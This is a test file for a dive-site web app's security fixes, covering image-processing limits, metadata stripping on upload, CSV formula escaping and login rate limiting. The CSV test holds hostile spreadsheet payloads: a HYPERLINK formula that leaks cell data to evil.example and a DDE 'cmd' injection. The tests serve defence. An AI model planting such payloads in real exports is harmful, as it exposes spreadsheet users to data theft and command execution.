import { createHash } from 'node:crypto';
import { parse } from 'csv-parse/sync';
import sharp from 'sharp';
import request from 'supertest';
import { DiveSite } from 'src/dive-sites/dive-site.entity';
import { MAX_OUTPUT_PIXELS, TOO_NARROW, tooSlow } from 'src/images/image-transform';
import { IMAGE_LIMITS, ImagesService, type ImageLimits } from 'src/images/images.service';
import { Media } from 'src/images/media.entity';
import { REMOTE_OFF } from 'src/images/remote-image.fetcher';
import { signInAsAdmin, type Agent } from '../support/admin';
import { startTestApp, type TestApp } from '../support/test-app';
import { asBytes } from '../support/bytes';

/**
 * Issue 27's findings F2, F3, F7 and F8 (hostile-b's share), each as an attacker met it. One app: remote
 * images left at their default (IMAGE_REMOTE_HOSTS unset), TRUST_PROXY=1 so a test can speak from any
 * address, and the image limits tightened (a 300 kB cache; a 1 s encode in its own test) so they show on
 * small inputs.
 */
const LIMITS: ImageLimits = { cacheBytes: 300_000, encodeTimeoutSeconds: 60 };

let t: TestApp;
let admin: Agent;

beforeAll(async () => {
  t = await startTestApp({ TRUST_PROXY: '1' }, { overrides: [{ provide: IMAGE_LIMITS, useValue: LIMITS }] });
  admin = await signInAsAdmin(t);
}, 60_000);

afterAll(() => t?.close());

/** Keeps an image as an upload (straight into the table: these are about /img, not the upload route). */
async function stored(bytes: Buffer, type: 'png' | 'jpeg' = 'png'): Promise<string> {
  const hash = createHash('sha256').update(bytes).digest('hex');
  await t.dataSource.getRepository(Media).save({ hash, mimeType: `image/${type}`, bytes, width: 1, height: 1, size: bytes.length, originalName: null });
  return `/media/uploads/${hash}.${type === 'png' ? 'png' : 'jpg'}`;
}

async function img(params: Record<string, string>, accept = 'image/jpeg') {
  const response = await fetch(`${t.baseUrl}/img?${new URLSearchParams(params)}`, { headers: { Accept: accept } });
  return { status: response.status, type: response.headers.get('content-type'), body: Buffer.from(await response.arrayBuffer()) };
}

const json = (body: Buffer) => JSON.parse(body.toString('utf8')) as { statusCode: number; error: string; message: string };
const solidPng = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#1a7fb5' } })
    .png()
    .toBuffer();

/** Noise that PNG still packs small (each row is the last shifted by a pixel), but that costs seconds to resize and encode. */
/**
 * Noise no encoder can shrink much: a PNG, or (`slow`) a progressive JPEG at quality 50, 12 MiB at 38.7
 * megapixels, whose decoding libjpeg cannot stream: about a second of the time limit's work on its own.
 */
function costlyImage(width: number, height: number, slow = false): Promise<Buffer> {
  const row = Buffer.alloc((width + height) * 3);
  let seed = 7;
  for (let i = 0; i < row.length; i++) {
    seed = (seed * 1103515245 + 12345) & 0x7fffffff;
    row[i] = (seed >> 16) & 255;
  }
  const pixels = Buffer.alloc(width * height * 3);
  for (let y = 0; y < height; y++) row.copy(pixels, y * width * 3, y * 3, y * 3 + width * 3);
  const image = sharp(pixels, { raw: { width, height, channels: 3 } });
  return (slow ? image.jpeg({ quality: 50, progressive: true }) : image.png({ compressionLevel: 6 })).toBuffer();
}

describe('F2: the work one image request can cause is bounded', () => {
  it("F2: takes only SPEC's qualities 80 and 85, refusing q=99 with a 400 naming q", async () => {
    const refused = await img({ src: '/media/poster-reef.svg', w: '400', q: '99' });
    expect(refused.status).toBe(400);
    expect(json(refused.body)).toMatchObject({ statusCode: 400, error: 'q must be 80 or 85', message: 'q must be 80 or 85' });
    expect((await img({ src: '/media/poster-reef.svg', w: '400', q: '85' })).status).toBe(200);
  });

  it('F2: fetches no remote image while IMAGE_REMOTE_HOSTS is unset, before any DNS lookup', async () => {
    const answer = await img({ src: 'https://images.example.com/reef.jpg', w: '400' });
    expect(answer.status).toBe(400);
    expect(json(answer.body)).toEqual({ statusCode: 400, error: REMOTE_OFF, message: REMOTE_OFF });
  });

  it('F2: refuses a 1600 x 24000 strip (more than 10:1) with a 422, never encoding it', async () => {
    const src = await stored(await solidPng(1600, 24_000));
    const answer = await img({ src, w: '1600' });
    expect(answer.status).toBe(422);
    expect(json(answer.body)).toEqual({ statusCode: 422, error: TOO_NARROW, message: TOO_NARROW });
  });

  it('F2: caps the pixels of an answer: a 2000 x 16000 image asked for 1600 wide fits inside 1600 x 3200', async () => {
    const src = await stored(await solidPng(2000, 16_000));
    const answer = await img({ src, w: '1600' });
    expect(answer.status).toBe(200);
    const { width, height } = await sharp(answer.body).metadata();
    expect([width, height]).toEqual([400, 3200]);
    expect(width * height).toBeLessThanOrEqual(MAX_OUTPUT_PIXELS);
    // AVIF's encoder runs past libvips' time limit, so a large answer is JPEG even for a browser taking AVIF.
    const large = await img({ src: await stored(await solidPng(1600, 3200)), w: '1600' }, 'image/avif,image/webp,*/*');
    expect([large.status, large.type]).toEqual([200, 'image/jpeg']);
  });

  it('F2: stops an encode past its time limit with a 422, and serves the next image', async () => {
    // 38.7 megapixels of progressive JPEG noise to decode, scale and encode as a 1600 x 3200 WebP: about two
    // seconds of work on this project's quiet 2-core machine (from a PNG to a JPEG it was a quarter of that).
    const src = await stored(await costlyImage(4400, 8800, true), 'jpeg');
    // The service reads its limits as each encode starts; the others keep a limit a busy machine never meets.
    LIMITS.encodeTimeoutSeconds = 1;
    const answer = await img({ src, w: '1600' }, 'image/webp,*/*').finally(() => (LIMITS.encodeTimeoutSeconds = 60));
    expect(answer.status).toBe(422);
    expect(json(answer.body)).toEqual({ statusCode: 422, error: tooSlow(1), message: tooSlow(1) });
    expect((await img({ src: await stored(await solidPng(900, 600)), w: '400' })).status).toBe(200);
  });

  it('F2: keeps no more bytes of answers than the cache may hold, whatever the number of entries', async () => {
    const src = await stored(await costlyImage(1600, 1200));
    const images = t.app.get(ImagesService);
    const before = images.cachedEntries;
    let sent = 0;
    for (const w of ['400', '600', '800', '1200']) {
      const answer = await img({ src, w });
      expect(answer.status).toBe(200);
      sent += answer.body.length;
    }
    expect(sent).toBeGreaterThan(LIMITS.cacheBytes);
    expect(images.cachedBytes).toBeLessThanOrEqual(LIMITS.cacheBytes);
    expect(images.cachedEntries - before).toBeLessThan(4);
  });
});

describe('F3: an uploaded original tells nothing about where or by whom it was taken', () => {
  it('F3: serves the original of a JPEG uploaded with GPS EXIF and XMP without any of it, turned upright', async () => {
    const jpeg = await sharp({ create: { width: 300, height: 100, channels: 3, background: '#1a7fb5' } })
      .jpeg()
      .withMetadata({ orientation: 6 })
      .withExifMerge({
        IFD0: { ImageDescription: 'Secret cove', Artist: 'A. Diver' },
        IFD3: { GPSLatitudeRef: 'S', GPSLatitude: '33/1 51/1 3540/100', GPSLongitudeRef: 'E', GPSLongitude: '151/1 12/1 4000/100' },
      })
      .withXmp(
        '<x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description xmlns:exif="http://ns.adobe.com/exif/1.0/" exif:GPSLatitude="33,51.59S"/></rdf:RDF></x:xmpmeta>',
      )
      .toBuffer();
    // The upload does carry the position.
    expect(jpeg.includes('GPSLatitude')).toBe(true);
    expect((await sharp(jpeg).metadata()).exif?.includes('Secret cove')).toBe(true);

    const uploaded = await admin.post('/api/admin/media').attach('file', jpeg, { filename: 'cove.jpg', contentType: 'image/jpeg' });
    expect(uploaded.status).toBe(201);
    expect(uploaded.body).toMatchObject({ url: expect.stringMatching(/^\/media\/uploads\/[0-9a-f]{64}\.jpg$/), width: 100, height: 300 });
    const served = await request(t.baseUrl).get(uploaded.body.url).buffer(true).parse(asBytes);
    expect(served.status).toBe(200);
    const bytes = served.body as Buffer;
    const metadata = await sharp(bytes).metadata();
    expect([metadata.format, metadata.width, metadata.height, metadata.orientation]).toEqual(['jpeg', 100, 300, undefined]);
    expect([metadata.exif, metadata.xmp, metadata.iptc]).toEqual([undefined, undefined, undefined]);
    for (const text of ['GPS', 'Secret cove', 'A. Diver', 'Exif']) expect([text, bytes.includes(text)]).toEqual([text, false]);
    // The URL still names the bytes served.
    expect(uploaded.body.url).toContain(createHash('sha256').update(bytes).digest('hex'));
  });

  it('F3: keeps an uploaded file name as UTF-8 (Café), without the bidirectional override U+202E', async () => {
    const png = await sharp({ create: { width: 20, height: 20, channels: 3, background: '#c0ffee' } })
      .png()
      .toBuffer();
    const uploaded = await admin.post('/api/admin/media').attach('file', png, { filename: 'Café \u202Egpj.png', contentType: 'image/png' });
    expect(uploaded.status).toBe(201);
    const list = (await admin.get('/api/admin/media')).body as { url: string; originalName: string }[];
    expect(list.find((item) => item.url === uploaded.body.url)?.originalName).toBe('Café gpj.png');
  });
});

describe('F7: the CSV export runs no formula in a spreadsheet', () => {
  it('F7: prefixes cells starting with = + - @, a tab or a carriage return with a single quote; numbers stay numbers', async () => {
    const site = await admin
      .post('/api/dive-sites')
      .send({
        name: 'Formula Reef',
        region: 'Victoria',
        latitude: -38.3,
        longitude: 144.7,
        description: 'A reef.',
        skillLevel: 'Beginner',
        depthRange: '5-12m',
        waterTemp: '12-19°C',
        visibility: '5-15m',
        bestTime: 'Summer',
      })
      .expect(201);
    const hostile = {
      name: '=HYPERLINK("https://evil.example/?"&A1,"Open")',
      description: "+cmd|' /C calc'!A0",
      marineLife: '-2+3',
      hazards: '@SUM(1+1)',
      facilities: '\tTabbed',
      bestTime: '\rReturned',
    };
    await t.dataSource.getRepository(DiveSite).update(site.body.id, hostile);
    const response = await admin.get('/api/dive-sites/export/csv').buffer(true).parse(asBytes).expect(200);
    const rows: Record<string, string>[] = parse((response.body as Buffer).toString('utf8'), { bom: true, columns: true });
    const row = rows.find((candidate) => candidate.id === String(site.body.id))!;
    for (const [column, value] of Object.entries(hostile)) expect([column, row[column]]).toEqual([column, `'${value}`]);
    expect([row.latitude, row.longitude, row.depthRange]).toEqual(['-38.30000000', '144.70000000', '5-12m']);
  });
});

describe('F8: sign-in guessing is bounded per network and site-wide', () => {
  beforeEach(() => t.dataSource.query('DELETE FROM rate_limits'));

  const wrongLogin = (from: string) => request(t.baseUrl).post('/api/admin/login').set('X-Forwarded-For', from).send({ password: 'not-the-password-at-all' });

  it('F8: twelve failed sign-ins from twelve addresses of one IPv6 /64 meet the 429; another /64 does not', async () => {
    const statuses: number[] = [];
    for (let i = 1; i <= 12; i++) statuses.push((await wrongLogin(`2001:db8:1:2::${i.toString(16)}`)).status);
    expect(statuses).toEqual([401, 401, 401, 401, 401, ...Array(7).fill(429)]);
    expect((await wrongLogin('2001:db8:1:3::1')).status).toBe(401);
  });

  it('F8: IPv4 stays per address, and its IPv4-mapped IPv6 spelling is the same client', async () => {
    for (let i = 0; i < 3; i++) await wrongLogin('198.51.100.7').expect(401);
    await wrongLogin('198.51.100.8').expect(401);
    await wrongLogin('::ffff:198.51.100.7').expect(401);
    await wrongLogin('::ffff:198.51.100.7').expect(401);
    await wrongLogin('198.51.100.7').expect(429);
  });

  it('F8: failed sign-ins spread over many addresses meet a site-wide cap, audited once, while pages keep answering', async () => {
    for (let i = 1; i <= 10; i++) await wrongLogin(`203.0.113.${i}`).expect(401);
    const capped = await wrongLogin('203.0.113.200').expect(429);
    expect(capped.body.error).toMatch(/^Too many login attempts on this site\. Please try again in 1 minute\.$/);
    expect(Number(capped.headers['retry-after'])).toBeGreaterThan(0);
    await wrongLogin('203.0.113.201').expect(429);
    const audited: { details: { reason: string } }[] = await t.dataSource.query(
      `SELECT details FROM audit_logs WHERE action = 'login_blocked' AND details::text LIKE '%all addresses%'`,
    );
    expect(audited).toHaveLength(1);
    // Only sign-in is capped: the site and its other forms are served.
    for (const path of ['/', '/dive-sites', '/blog']) await request(t.baseUrl).get(path).set('X-Forwarded-For', '203.0.113.202').expect(200);
  });
});
